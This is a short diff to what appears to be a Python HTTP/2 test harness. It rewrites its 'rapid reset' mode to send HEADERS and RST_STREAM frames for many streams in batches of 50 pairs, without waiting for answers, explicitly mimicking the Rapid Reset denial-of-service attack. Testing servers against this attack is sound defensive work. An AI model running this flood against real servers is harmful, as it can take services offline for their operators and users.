@@ -247,13 +247,18 @@ def raw_summary(frames):
 
 
 def mode_rapid_reset(port, n, path):
+    # As the attack does it: HEADERS and RST_STREAM of many streams back to back, 50 pairs a
+    # write, without waiting for any answer.
     r = Raw(port)
     sent = 0
-    for i in range(n):
-        sid = 1 + 2 * i
-        if not r.send(r.headers(sid, path), RstStreamFrame(sid, error_code=8)):
+    for first in range(0, n, 50):
+        pairs = []
+        for i in range(first, min(n, first + 50)):
+            sid = 1 + 2 * i
+            pairs += [r.headers(sid, path), RstStreamFrame(sid, error_code=8)]
+        if not r.send(*pairs):
             break
-        sent += 1
+        sent += len(pairs) // 2
     out = raw_summary(r.frames(3))
     out["sent"] = sent
     return out
